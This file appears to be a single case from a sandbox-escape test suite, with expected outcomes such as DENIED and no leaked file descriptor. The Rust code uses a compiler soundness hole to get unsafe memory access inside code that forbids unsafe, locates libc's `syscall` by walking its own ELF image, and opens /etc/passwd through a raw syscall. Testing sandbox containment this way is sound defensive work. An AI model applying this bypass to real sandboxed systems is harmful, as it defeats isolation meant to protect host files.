//! attack  : 093_hole_open_via_syscall
//! class   : hole
//! what    : openat("/etc/passwd") as a raw syscall (bypasses any language-level ban on std::fs).
//! profile : std   (smallest guest profile in which this compiles)
//! calls   : ""
//! expect.status = FAULT|DENIED|TIMEOUT|WORKER_LOST|OK
//! expect.worker = same|restarted
//! expect.next_ok = true
//! expect.gateway = unharmed
//! expect.not_contains = fd=
//! expect.fd_delta = 0
#![forbid(unsafe_code)]
#![allow(unused, unconditional_recursion, clippy::all)]

// --- soundness-hole helper (rust-lang/rust#25860, higher-ranked form; open, compiles on rustc 1.95 and 1.97-nightly) ---
fn tr<'a, 'b, T: ?Sized>(_v: &'a &'b (), b: &'b mut T) -> &'a mut T {
    b
}
fn ext<T: ?Sized + 'static>(x: &mut T) -> &'static mut T {
    let f: fn(&'static &'static (), &mut T) -> &'static mut T = tr;
    f(&&(), x)
}
#[allow(dead_code)]
fn transmute<A: 'static, B: 'static>(obj: A) -> B {
    enum D<A, B> {
        #[allow(dead_code)]
        A(Option<Box<A>>),
        B(Option<Box<B>>),
    }
    #[inline(never)]
    fn inner<A: 'static, B: 'static>(d: &mut D<A, B>, obj: A) -> B {
        let D::B(r) = d else { unreachable!() };
        let r = ext(r);
        *d = D::A(Some(Box::new(obj)));
        std::hint::black_box(d);
        *r.take().unwrap()
    }
    inner(std::hint::black_box(&mut D::B(None)), obj)
}

// --- arbitrary syscalls from safe code: walk our own ELF image in memory to the GOT slot of libc `syscall` (std imports it) ---
#[allow(dead_code)]
fn rd<T: Copy + 'static>(p: usize) -> T {
    *transmute::<usize, &'static T>(p)
}
#[allow(dead_code)]
fn cstr_eq(mut p: usize, s: &[u8]) -> bool {
    for &c in s {
        if rd::<u8>(p) != c {
            return false;
        }
        p += 1
    }
    rd::<u8>(p) == 0
}
#[inline(never)]
fn anchor() -> usize {
    anchor as fn() -> usize as usize
}
fn find_syscall() -> Option<extern "C" fn(i64, i64, i64, i64, i64, i64, i64) -> i64> {
    std::hint::black_box(std::collections::HashMap::<u8, u8>::new()); // RandomState -> getrandom keeps `syscall` imported
    let mut base = anchor() & !0xfff;
    while rd::<u32>(base) != 0x464c457f {
        base -= 0x1000
    }
    let (phoff, phnum) = (rd::<u64>(base + 32) as usize, rd::<u16>(base + 56) as usize);
    let mut dynv = 0usize;
    for i in 0..phnum {
        let ph = base + phoff + i * 56;
        if rd::<u32>(ph) == 2 {
            dynv = base + rd::<u64>(ph + 16) as usize
        }
    }
    let (mut sym, mut strt, mut rela, mut relasz, mut jmp, mut jmpsz) = (0, 0, 0, 0, 0, 0);
    let mut d = dynv;
    loop {
        let (tag, val) = (rd::<u64>(d), rd::<u64>(d + 8) as usize);
        match tag {
            0 => break,
            6 => sym = val,
            5 => strt = val,
            7 => rela = val,
            8 => relasz = val,
            23 => jmp = val,
            2 => jmpsz = val,
            _ => {}
        }
        d += 16;
    }
    let fix = |v: usize| if v < base { v + base } else { v };
    let (sym, strt) = (fix(sym), fix(strt));
    for (t, n) in [(fix(rela), relasz), (fix(jmp), jmpsz)] {
        let mut r = t;
        while r < t + n {
            let (off, info) = (rd::<u64>(r) as usize, rd::<u64>(r + 8));
            let s = (info >> 32) as usize;
            if s != 0 && cstr_eq(strt + rd::<u32>(sym + s * 24) as usize, b"syscall") {
                return Some(transmute::<usize, extern "C" fn(i64, i64, i64, i64, i64, i64, i64) -> i64>(
                    rd::<u64>(base + off) as usize,
                ));
            }
            r += 24;
        }
    }
    None
}
#[allow(dead_code)]
fn sys(nr: i64, a: &[i64]) -> i64 {
    let g = |i: usize| a.get(i).copied().unwrap_or(0);
    match find_syscall() {
        Some(f) => f(nr, g(0), g(1), g(2), g(3), g(4), g(5)),
        None => -38_000,
    }
}
pub fn attack(_input: &[u8]) -> Vec<u8> {
    let p = b"/etc/passwd\0";
    let r = sys(257, &[-100, p.as_ptr() as i64, 0, 0]);
    if r >= 0 { format!("fd={r}").into_bytes() } else { format!("ERR {r}").into_bytes() }
}
